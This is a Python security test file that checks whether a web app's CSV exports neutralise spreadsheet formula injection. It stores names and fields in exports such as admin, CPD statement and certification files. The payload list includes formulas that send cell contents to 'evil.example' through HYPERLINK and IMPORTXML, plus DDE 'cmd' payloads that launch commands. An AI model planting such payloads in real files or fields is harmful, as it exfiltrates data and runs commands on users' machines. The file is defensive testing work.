"""Formula injection: every CSV the app writes (the admin exports, the CPD statement, the
certification batch report) shows values that begin with =, +, -, @, a tab or a carriage return as
text, with a leading apostrophe, and keeps numbers (a negative adjustment) as numbers."""

from decimal import Decimal

from tests.conftest import PASSWORD, issue_statement, submit
from tests.cpd.conftest import upload
from tests.security.payloads import FORMULA_STARTS, csv_cells, formula_cells
from wired4ex.auth.models import User
from wired4ex.catalog.services import get_course
from wired4ex.cpd import services
from wired4ex.extensions import db
from wired4ex.learning.models import CourseCompletion, Enrolment
from wired4ex.timeutil import local_today

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tabbed",
    "\r=1+1 returned",
    "=1+1",
]


def log_in(app, email):
    client = app.test_client()
    assert submit(client, "/login", {"email": email, "password": PASSWORD}).status_code == 302
    return client


def neutralised(data: bytes, values: list[str], where: str) -> list[str]:
    """Problems: cells a spreadsheet would run, and values missing or not neutralised."""
    cells = csv_cells(data)
    problems = [f"{where}: formula cell {cell!r}" for cell in formula_cells(data)]
    for value in values:
        expected = "'" + value if value[:1] in FORMULA_STARTS else value
        if not any(expected in cell for cell in cells):
            problems.append(f"{where}: {value!r} not written as {expected!r}")
    return problems


def test_every_csv_export_neutralises_formulas(app, make_user, synced_content, runner, tmp_path):
    admin = make_user(email="admin@example.org", full_name="Secretariat", roles=("member", "admin"))
    members = [
        make_user(email=f"formula{number}@example.org", full_name=formula)
        for number, formula in enumerate(FORMULAS)
    ]
    db.session.rollback()
    names = [db.session.get(User, member.id).full_name for member in members]
    # Enrolled and completed this year, so they are in the course and dashboard tables; a course
    # whose title (from a content file: faculty are untrusted) is a tab and a formula.
    course = get_course("lake-region-university", "health-financing")
    course.title = '\t=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
    year = local_today().year
    for member in members:
        db.session.add(Enrolment(user_id=member.id, course_id=course.id))
        db.session.add(CourseCompletion(user_id=member.id, course_id=course.id))
    db.session.commit()
    # A claim whose title and provider are formulas, approved; and a negative adjustment.
    claimant = members[0]
    today = local_today()
    claim = services.save_claim(
        claimant,
        services.ClaimInput(
            title=FORMULAS[2],
            provider=FORMULAS[3],
            category="conference",
            start_date=today,
            end_date=today,
            hours=Decimal("3"),
            points_claimed=Decimal("2"),
            reflection="We now review the stock-out data every week.",
            competencies=[],
        ),  # fmt: skip
        upload=upload(),
        submit=True,
    )
    services.decide_claim(
        claim, admin, services.Decision(approve=True, points=Decimal("2"), reason="")
    )
    client = log_in(app, "admin@example.org")
    adjusted = submit(
        client, f"/cpd/members/{claimant.id}/adjust",
        {"points": "-1.5", "category": "association", "activity_date": today.isoformat(),
         "reason": FORMULAS[0]},
        page=f"/cpd/members/{claimant.id}",
    )  # fmt: skip
    assert adjusted.status_code == 302

    problems = []
    exports = {
        "/admin/members.csv?account=all": names,
        "/admin/audit.csv": [],
        f"/admin/courses/{course.id}/learners.csv": names,
        f"/admin/courses/{course.id}/questions.csv": [],
        f"/admin/courses/{course.id}/completions.csv": [],
    }
    exports |= {
        f"/admin/dashboard/{table}.csv?year={year}": [course.title] if table == "courses" else []
        for table in ("months", "courses", "institutions", "countries", "compliance",
                      "certificates")
    }  # fmt: skip
    for url, values in exports.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv", url
        problems += neutralised(response.data, values, url)

    member = log_in(app, claimant.email)
    statement = issue_statement(member, "csv", cycle=year)
    assert statement.status_code == 200
    problems += neutralised(statement.data, [names[0], FORMULAS[2], FORMULAS[3]], "statement")
    assert "-1.5" in csv_cells(statement.data) or "-1.5" in statement.get_data(as_text=True), (
        "the negative adjustment should stay a number"
    )

    report_path = tmp_path / "eligibility.csv"
    result = runner.invoke(args=["certification", "evaluate", "--out", str(report_path)])
    assert result.exit_code == 0, result.output
    problems += neutralised(report_path.read_bytes(), names, "certification evaluate --out")
    assert problems == [], "\n".join(problems)


def test_the_check_catches_a_formula_cell():
    data = b'name,points\n"=HYPERLINK(""http://x"")",-2\n\'=1+1,3\n'
    assert formula_cells(data) == ['=HYPERLINK("http://x")']
    assert neutralised(data, ["=1+1"], "x") == ["x: formula cell '=HYPERLINK(\"http://x\")'"]
    assert neutralised(b"a\n'@SUM(1)\n", ["@SUM(1)"], "x") == []
